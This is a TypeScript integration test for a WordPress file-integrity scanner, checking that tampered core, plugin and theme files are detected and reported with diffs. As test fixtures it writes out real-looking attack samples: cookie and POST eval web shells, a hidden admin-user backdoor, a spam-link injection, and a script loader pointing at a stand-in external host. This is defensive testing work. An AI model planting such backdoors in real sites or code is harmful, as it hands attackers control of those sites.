import { appendFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import { ZipFile } from 'yazl';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { demoPluginCatalog } from '../../../electron/engine/demo/demo-plugins';
import { startWporgStandin, type WporgStandin } from '../../../electron/engine/demo/wporg-standin';
import { isSerious, scanTree, type ScanResult } from '../../../electron/engine/scanner/scan-tree';
import { openFolderTree } from '../../../electron/engine/snapshot/tree-reader';
import { WporgClient } from '../../../electron/engine/wordpress/wporg-client';
import { loadWordPressTree, materializeWordPressTree } from '../../../electron/engine/wordpress/wp-tree';
import { openZipArchive } from '../../../electron/engine/wordpress/zip-archive';

/**
 * Integrity against the local wordpress.org stand-in, on real WordPress trees (Debian's package
 * via wp-tree.ts) with injected changes.
 */
let standin: WporgStandin;
let work: string;

async function writePlugin(root: string, slug: string, version: string): Promise<void> {
  const release = demoPluginCatalog().find((l) => l.slug === slug)?.releases.find((r) => r.version === version);
  if (!release) throw new Error(`no ${slug} ${version}`);
  for (const f of release.files) {
    const file = path.join(root, 'wp-content/plugins', slug, f.path);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, f.text);
  }
}

async function zipOf(files: { path: string; text: string }[], top: string): Promise<Buffer> {
  const z = new ZipFile();
  for (const f of files) z.addBuffer(Buffer.from(f.text), `${top}/${f.path}`);
  z.end();
  const chunks: Buffer[] = [];
  for await (const c of z.outputStream as AsyncIterable<Buffer>) chunks.push(c);
  return Buffer.concat(chunks);
}

function client(cache: string, offline = false): WporgClient {
  return new WporgClient({ cacheDir: path.join(work, cache), bases: standin.bases, offline });
}

function at(result: ScanResult, p: string): ScanResult['findings'] {
  return result.findings.filter((f) => f.path === p);
}

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'sr-scan-int-'));
  standin = await startWporgStandin();
}, 180_000);

afterAll(async () => {
  await standin?.close();
  await rm(work, { recursive: true, force: true });
});

describe('scan against the wordpress.org stand-in', () => {
  it('a clean Japanese tree has zero findings at medium or above', async () => {
    const site = path.join(work, 'clean');
    await materializeWordPressTree(await loadWordPressTree(), 'ja', site);
    const result = await scanTree(openFolderTree(site), { client: client('cache-a') });
    expect(result.findings.filter(isSerious)).toEqual([]);
    expect(result.installs).toHaveLength(1);
    expect(result.installs[0]).toMatchObject({ locale: 'ja', version: (await loadWordPressTree()).version });
    expect(result.stats.verifiedFiles).toBe(result.stats.files);
    expect(result.notVerified).toEqual([]);
  });

  it('finds tampered core with a diff, unknown core files, plugin changes; ignores line endings and whitespace', async () => {
    const site = path.join(work, 'tampered');
    await materializeWordPressTree(await loadWordPressTree(), 'ja', site);
    await appendFile(path.join(site, 'wp-login.php'), "\n<?php if (isset($_COOKIE['k'])) { @eval($_COOKIE['k']); } ?>\n");
    await writeFile(path.join(site, 'wp-includes/class-wp-feed-cache-helper.php'), '<?php echo "hello";\n');
    await writeFile(path.join(site, 'wp-conflg.php'), '<?php echo "hi";\n');
    // ASCII-mode FTP (CRLF) and re-indentation are not modifications.
    const cron = await readFile(path.join(site, 'wp-cron.php'), 'latin1');
    await writeFile(path.join(site, 'wp-cron.php'), cron.replace(/\n/g, '\r\n'), 'latin1');
    const opml = await readFile(path.join(site, 'wp-links-opml.php'), 'latin1');
    await writeFile(path.join(site, 'wp-links-opml.php'), opml.replace(/\t/g, '    '), 'latin1');
    // A wordpress.org plugin with one changed file, an added PHP file and an edited readme.
    await writePlugin(site, 'contact-form-lite', '2.4.1');
    const pluginDir = path.join(site, 'wp-content/plugins/contact-form-lite');
    const mainFile = path.join(pluginDir, 'contact-form-lite.php');
    await appendFile(mainFile, "\nadd_action('init', function () { if (isset($_GET['x'])) { wp_create_user('support', 'x', 'a@b.example'); } });\n");
    await writeFile(path.join(pluginDir, 'includes/class-cfl-loader.php'), '<?php // added\n');
    await appendFile(path.join(pluginDir, 'readme.txt'), '\nLocal note.\n');
    // A bundled theme with a changed functions.php (verified against the theme zip).
    await appendFile(path.join(site, 'wp-content/themes/twentytwentyone/functions.php'), "\n// injected footer\nadd_action('wp_footer', function () { echo '<a href=\"https://spam.example/\">x</a>'; });\n");
    // A premium plugin: cannot be verified, info only.
    await writePlugin(site, 'pro-gallery-suite', '3.2.1');

    const result = await scanTree(openFolderTree(site), { client: client('cache-b') });
    const login = at(result, 'wp-login.php').find((f) => f.ruleId === 'core-modified');
    expect(login).toMatchObject({ severity: 'critical', action: 'replace-with-clean', group: 'tampered-core' });
    expect(login?.diff).toContain("+<?php if (isset($_COOKIE['k'])) { @eval($_COOKIE['k']); } ?>");
    expect(login?.diff).toMatch(/^--- original\/wp-login\.php/);
    expect(at(result, 'wp-includes/class-wp-feed-cache-helper.php')[0]).toMatchObject({ ruleId: 'core-unknown-file', severity: 'critical', action: 'delete', group: 'unknown-in-core' });
    expect(at(result, 'wp-conflg.php').find((f) => f.ruleId === 'core-unknown-root-file')).toMatchObject({ severity: 'critical' });
    expect(at(result, 'wp-cron.php')).toEqual([]);
    expect(at(result, 'wp-links-opml.php')).toEqual([]);
    const main = at(result, 'wp-content/plugins/contact-form-lite/contact-form-lite.php').find((f) => f.ruleId === 'plugin-modified');
    expect(main).toMatchObject({ severity: 'high', action: 'replace-with-clean' });
    expect(main?.diff).toContain("wp_create_user('support'");
    expect(at(result, 'wp-content/plugins/contact-form-lite/includes/class-cfl-loader.php')[0]).toMatchObject({ ruleId: 'plugin-unknown-file', action: 'delete' });
    expect(at(result, 'wp-content/plugins/contact-form-lite/readme.txt')).toEqual([]);
    expect(at(result, 'wp-content/themes/twentytwentyone/functions.php').find((f) => f.ruleId === 'theme-modified')?.diff).toContain('spam.example');
    // Premium plugin: one info finding for the plugin, nothing at medium or above on its files.
    const premium = result.findings.filter((f) => f.path.startsWith('wp-content/plugins/pro-gallery-suite'));
    expect(premium.map((f) => [f.ruleId, f.severity, f.group])).toEqual([['plugin-not-on-wporg', 'info', 'unverified']]);
    // Every finding id is unique and stable across runs.
    expect(new Set(result.findings.map((f) => f.id)).size).toBe(result.findings.length);
    const again = await scanTree(openFolderTree(site), { client: client('cache-b') });
    expect(again.findings.map((f) => f.id).sort()).toEqual(result.findings.map((f) => f.id).sort());
  });

  it('verifies a premium plugin against the vendor zip the owner gives', async () => {
    const site = path.join(work, 'vendor');
    await materializeWordPressTree(await loadWordPressTree(), 'en_US', site);
    await writePlugin(site, 'pro-gallery-suite', '3.2.1');
    const release = demoPluginCatalog().find((l) => l.slug === 'pro-gallery-suite')!.releases[0]!;
    const zip = await openZipArchive(await zipOf([...release.files], 'pro-gallery-suite'), { stripTop: true });
    const js = path.join(site, 'wp-content/plugins/pro-gallery-suite/assets/js/pgs.min.js');
    await appendFile(js, ';(function(){var s=document.createElement("script");s.src="https://cdn-metrics.example/t.js";document.head.appendChild(s)})();\n');
    const result = await scanTree(openFolderTree(site), { client: client('cache-c'), vendorPackages: [{ kind: 'plugin', slug: 'pro-gallery-suite', zip }] });
    const premium = result.findings.filter((f) => f.path.startsWith('wp-content/plugins/pro-gallery-suite'));
    expect(premium.find((f) => f.ruleId === 'plugin-modified')).toMatchObject({ path: 'wp-content/plugins/pro-gallery-suite/assets/js/pgs.min.js', severity: 'high' });
    expect(premium.find((f) => f.ruleId === 'plugin-not-on-wporg')).toBeUndefined();
  });

  it('verifies a plugin whose version header was removed against its current release', async () => {
    const site = path.join(work, 'noheader');
    await materializeWordPressTree(await loadWordPressTree(), 'en_US', site);
    await writePlugin(site, 'simple-seo-meta', '1.8.2');
    const dir = path.join(site, 'wp-content/plugins/simple-seo-meta');
    const main = path.join(dir, 'simple-seo-meta.php');
    await writeFile(main, (await readFile(main, 'utf8')).replace(/^.*Version:.*$/m, ''));
    const result = await scanTree(openFolderTree(site), { client: client('cache-e') });
    const mine = result.findings.filter((f) => f.path.startsWith('wp-content/plugins/simple-seo-meta'));
    expect(mine.find((f) => f.ruleId === 'plugin-no-version')).toMatchObject({ severity: 'info', group: 'unverified' });
    expect(mine.find((f) => f.ruleId === 'plugin-modified')).toMatchObject({ path: 'wp-content/plugins/simple-seo-meta/simple-seo-meta.php' });
  });

  it('falls back to the en_US list when the localized list is false, accepting locale files', async () => {
    const site = path.join(work, 'de');
    await materializeWordPressTree(await loadWordPressTree(), 'en_US', site);
    await appendFile(path.join(site, 'wp-includes/version.php'), "\n$wp_local_package = 'de_DE';\n");
    const readme = await readFile(path.join(site, 'readme.html'), 'utf8');
    await writeFile(path.join(site, 'readme.html'), readme.replace(/<title>[^<]*<\/title>/, '<title>WordPress › LiesMich</title>'));
    await writeFile(path.join(site, 'liesmich.html'), '<html><body>Willkommen</body></html>');
    const result = await scanTree(openFolderTree(site), { client: client('cache-d') });
    expect(result.installs[0]?.locale).toBe('de_DE');
    expect(result.findings.filter(isSerious)).toEqual([]);
    expect(at(result, 'readme.html')).toEqual([]);
    expect(at(result, 'wp-includes/version.php')).toEqual([]);
    expect(result.notVerified.filter((n) => n.kind === 'core')).toEqual([]);
  });

  it('offline: rules still run, and what could not be verified is said once', async () => {
    const site = path.join(work, 'offline');
    await materializeWordPressTree(await loadWordPressTree(), 'ja', site);
    await writePlugin(site, 'contact-form-lite', '2.4.1');
    await writeFile(path.join(site, 'wp-content/uploads-shell.php'), '<?php @eval($_POST["x"]);');
    const result = await scanTree(openFolderTree(site), { client: client('cache-empty', true) });
    const summary = result.findings.filter((f) => f.ruleId === 'integrity-offline');
    expect(summary).toHaveLength(1);
    expect(summary[0]).toMatchObject({ severity: 'info', group: 'unverified' });
    expect(summary[0]!.message.en).toMatch(/WordPress core \(1 install\), 2 plugins, 3 themes, known security holes/);
    expect(summary[0]!.message.ja).toMatch(/オフライン/);
    expect(result.findings.filter((f) => f.group === 'unverified')).toHaveLength(1);
    expect(result.notVerified.map((n) => n.reason)).toEqual(expect.arrayContaining(['offline']));
    expect(result.stats.verifiedFiles).toBe(0);
    expect(at(result, 'wp-content/uploads-shell.php').some(isSerious)).toBe(true);
  });
});
